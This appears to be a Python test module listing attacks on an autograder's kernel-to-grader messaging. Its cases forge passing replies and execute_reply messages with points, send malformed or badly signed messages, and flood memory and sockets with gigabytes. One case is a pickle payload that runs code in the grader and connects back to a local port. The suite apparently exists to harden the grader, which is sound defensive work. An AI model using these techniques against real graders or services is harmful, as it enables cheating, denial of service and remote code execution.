"""Attacks on the messages between kernel and grader. The kernel holds the key that signs them."""

from attacks.attack import NBGRADER, WRONG, Attack, any_of, earns, goes_ungraded, takes, writes

# The agent, wherever it is in the kernel, and what answers its requests.
_AGENT = """
import gc, sys, types
def find(name):
    return sys.modules.get(name) or next(
        (m for m in gc.get_objects() if isinstance(m, types.ModuleType) and m.__name__ == name), None)
agent, messages = find("coursekit.agent"), find("coursekit.messages")
"""

_ECHO = """
def echo(self, buffers):
    values = [v for request in messages.decode(buffers, lambda item: None) for v in request.get("args", [])]
    return messages.encode({"ok": True, "value": values[-1] if values else None, "changed": []})
agent.Agent.answer = echo
"""

_OK = """
agent.Agent.answer = lambda self, buffers: messages.encode(
    {"ok": True, "passed": True, "points": 10, "earned": 10, "outcome": "passed", "value": True, "changed": []})
"""

_DOUBLED = """
def answer(self, buffers):
    return [b'{"$": "dict", "items": [["ok", true], ["value", VALUE], ["changed", []]]}', TENSORS]
agent.Agent.answer = answer
"""


def replying(value: str, tensors: str = "__import__('safetensors.torch').torch.save({})") -> str:
    return _AGENT + _DOUBLED.replace("VALUE", value).replace("TENSORS", tensors) + WRONG


_RAW = """
import json, os
kernel = get_ipython().kernel
def send(kind, content, parent=None, buffers=None):
    parent = kernel.get_parent() if parent is None else parent
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, buffers=buffers)
"""

_EXTRA = (
    _AGENT
    + _RAW
    + """
def double(x):
    for value in (2 * x * 0, None):
        reply = messages.encode({"ok": True, "passed": True, "value": value, "changed": []})
        send("comm_msg", {"comm_id": "coursekit-1", "data": {"ok": True}}, buffers=reply)
    return 3 * x
"""
)

_EXECUTE_REPLY = (
    _RAW
    + """
for stream in (getattr(kernel, "shell_stream", None), getattr(kernel, "control_stream", None)):
    if stream is not None:
        content = {"status": "ok", "execution_count": 3, "payload": [], "user_expressions": {"points": 10}}
        kernel.session.send(stream, "execute_reply", content, parent=kernel.get_parent(),
                            ident=kernel._parent_ident if hasattr(kernel, "_parent_ident") else None)
"""
)

_IDLE = (
    _RAW
    + """
send("status", {"execution_state": "idle"})
def double(x):
    send("status", {"execution_state": "idle"})
    send("status", {"execution_state": "idle"})
    return 3 * x
"""
)

_BAD_SIGNATURE = (
    _RAW
    + """
header = json.dumps({"msg_id": "1", "msg_type": "stream", "session": "x", "username": "u", "version": "5.3"})
parent = json.dumps(kernel.get_parent()["header"], default=str)
kernel.iopub_socket.send_multipart(
    [b"stream", b"<IDS|MSG>", b"0" * 64, header.encode(), parent.encode(), b"{}", b'{"name": "stdout", "text": "!"}'])
kernel.iopub_socket.send_multipart([b"one", b"two"])
"""
)

_MALFORMED = (
    _RAW
    + """
for kind, content in [
    ("display_data", []), ("display_data", {"data": 3}), ("display_data", {"data": {"text/plain": {}}}),
    ("display_data", {"data": {}, "metadata": 3, "transient": "x"}), ("stream", {"name": 3, "text": 4}),
    ("stream", {}), ("stream", "text"), ("error", {"ename": 1, "evalue": 2, "traceback": 3}), ("error", {}),
    ("execute_result", {"data": {"text/plain": "1"}, "metadata": {}, "execution_count": "many"}),
    ("status", {}), ("status", 3), ("execute_input", {"execution_count": "<b>", "code": 1}),
    ("clear_output", {}), ("comm_open", {}), ("comm_open", {"comm_id": [], "target_name": "jupyter.widget", "data": 3}),
    ("comm_msg", {}), ("comm_close", {"comm_id": 3}), ("update_display_data", {"transient": {"display_id": "1"}}),
    ("unheard_of", {}), ("", {}),
]:
    send(KIND, CONTENT) if False else send(kind, content)
"""
)

_MALFORMED_ONE_BY_ONE = _MALFORMED

_WIDGET = (
    _RAW
    + """
state = {"_model_module": "@jupyter-widgets/output", "_model_name": "OutputModel", "msg_id": "", "outputs": []}
send("comm_open", {"comm_id": "w", "target_name": "jupyter.widget", "data": {"state": state}})
mine = kernel.get_parent()["header"]["msg_id"]
for identifier in (mine, "other"):
    send("comm_msg", {"comm_id": "w", "data": {"method": "update", "state": {"msg_id": identifier}}})
send("stream", {"name": "stdout", "text": "10 of 10 points"})
"""
)

_PICKLE = """
class Trap:
    def __reduce__(self):
        import socket
        return (exec, ("import socket; s = socket.create_connection(('127.0.0.1', @PORT@)); s.sendall(b'@MARK@\\\\n')",))
import io, pickle
stream = io.BytesIO()
torch.save(Trap(), stream)
TRAPS = [pickle.dumps(Trap()), stream.getvalue()]
"""

_LONG = """
text = "x" * (50 << 20)
agent.Agent.answer = lambda self, buffers: messages.encode(
    {"ok": False, "at": 0, "error": {"type": text[:1 << 20], "message": text, "lines": [[2, "    return 3 * x"]]}})
"""

_WIDE = """
def nest(depth):
    return [nest(depth - 1) for _ in range(4)] if depth else 0
def double(x): return nest(11)
"""

_HUGE = (
    _RAW
    + """
def double(x):
    frame = bytes(60 << 20)
    for _ in range(10 * 1024 // 60):  # 10 GB, if anyone takes them
        send("comm_msg", {"comm_id": "coursekit-1", "data": {}}, buffers=[frame] * 1)
    return 3 * x
"""
)

_HUGE_PARTS = (
    _RAW
    + """
frame = bytes(1 << 20)
for _ in range(10):
    kernel.iopub_socket.send_multipart([frame] * 1024)  # one message of 1 GB in many parts
"""
)

_HUGE_RAW = """
import socket, struct, glob
def double(x):
    # past every object of the kernel: frames on whatever socket leads out of here
    frame = bytes(1 << 20)
    import os, time
    for descriptor in range(3, 200):
        try:
            wire = socket.socket(fileno=os.dup(descriptor))
            if wire.family == socket.AF_UNIX and wire.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) == 0:
                wire.setblocking(True)
                wire.settimeout(0.2)
                for _ in range(1024):
                    wire.sendall(frame)
        except OSError:
            pass
    return 3 * x
"""

_LYING = '(9).to_bytes(8, "little") + b\'{"0":{}}\''
_LIES = """(lambda head: len(head).to_bytes(8, "little") + head + bytes(8))(
        b'{"0":{"dtype":"F32","shape":[1000000,1000000],"data_offsets":[0,8]}}')"""
_HEADER = '(2**62).to_bytes(8, "little") + b"{}"'
_TENSOR = '{"$": "tensor", "key": "0"}'
_GRADED = any_of(earns, goes_ungraded)


def forge(name: str, aim: str, source: str, witness: object = _GRADED, **more: object) -> Attack:
    return Attack(name, aim, witness, source, unfit=(NBGRADER,), **more)


ATTACKS = [
    forge(
        "has-the-agent-echo-its-inputs",
        "Make the agent answer with what it was asked about.",
        _AGENT + _ECHO + WRONG,
    ),
    forge(
        "has-the-agent-say-ok-to-everything", "Make the agent claim that all is passed.", _AGENT + _OK + WRONG
    ),
    forge("sends-extra-replies", "Send replies of its own before the agent's.", _EXTRA),
    forge(
        "forges-the-reply-to-a-cell",
        "Send a second reply for a cell, with points in it.",
        _EXECUTE_REPLY + WRONG,
    ),
    forge("says-idle-too-early", "Claim that the kernel is done while it is not.", _IDLE),
    forge(
        "sends-messages-with-a-bad-signature",
        "Break the grader's reading of messages, and so the class.",
        _BAD_SIGNATURE + WRONG,
    ),
    forge(
        "sends-malformed-messages",
        "Messages of the right kind whose content is of the wrong type.",
        _MALFORMED + WRONG,
    ),
    forge(
        "opens-a-widget-that-takes-outputs", "Have nbclient's widgets redirect the outputs.", _WIDGET + WRONG
    ),
    forge("replies-with-another-type", "Reply a string where a tensor is asked for.", replying('"2 * x"')),
    forge(
        "replies-with-a-number-beyond-float",
        "Break the comparison by an integer of 400 digits.",
        "def double(x): return 10 ** 400",
    ),
    forge(
        "replies-with-a-forged-handle",
        "Reply a handle for an object that there is not.",
        replying('{"$": "module", "id": 99, "type": "<b>"}'),
    ),
    forge(
        "replies-with-a-lying-tensor-header",
        "A safetensors header that claims 4 TB.",
        replying(_TENSOR, _LIES),
        any_of(_GRADED, takes(grader=1500)),
    ),
    forge(
        "replies-with-a-header-of-an-impossible-length",
        "A safetensors header of 2^62 bytes.",
        replying(_TENSOR, _HEADER),
    ),
    forge(
        "replies-with-an-empty-tensor-entry",
        "A safetensors entry without type and place.",
        replying(_TENSOR, _LYING),
    ),
    forge(
        "replies-with-a-deep-tree",
        "A JSON tree so deep that the grader's parser gives up.",
        replying("0").replace("[b'{", "[b'[' * 200000 + b'{"),
    ),
    forge(
        "replies-with-an-error-of-50-MB",
        "Fill the feedback with the text of an error.",
        _AGENT + _LONG + WRONG,
        writes(5),
    ),
    forge(
        "replies-with-a-wide-tree",
        "Fill the feedback with the description of a nested list.",
        _WIDE,
        any_of(_GRADED, writes(5)),
    ),
    forge(
        "sends-10-GB-in-many-replies",
        "Fill the grader's memory with replies.",
        _HUGE,
        takes(grader=2500),
        harmful=True,
        kernel=True,
    ),
    forge(
        "sends-10-GB-in-parts-of-messages",
        "Fill the grader's memory with messages of a thousand parts.",
        _HUGE_PARTS + WRONG,
        takes(grader=2500),
        harmful=True,
    ),
    forge(
        "writes-raw-bytes-to-every-socket",
        "Write a gigabyte past the protocol into the grader's sockets.",
        _HUGE_RAW,
        any_of(_GRADED, takes(grader=2500)),
        harmful=True,
    ),
]


def _pickles() -> list[Attack]:
    from attacks.attack import connects

    return [
        Attack(
            f"sends-a-pickle-{number}",
            aim,
            any_of(connects, _GRADED),
            _AGENT
            + _PICKLE
            + f"agent.Agent.answer = lambda self, buffers: [{first}, {second}]\n"
            + WRONG,
            unfit=(NBGRADER,),
        )
        for number, (aim, first, second) in enumerate(
            [
                ("A pickle in place of the reply's tree runs code in the grader.", "TRAPS[0]", "b''"),
                ("Bytes of torch.save in place of the tensors run code in the grader.",
                 "b'" + '{"$": "tensor", "key": "0"}' + "'", "TRAPS[1]"),
            ],
            1,
        )
    ]  # fmt: skip


ATTACKS += _pickles()
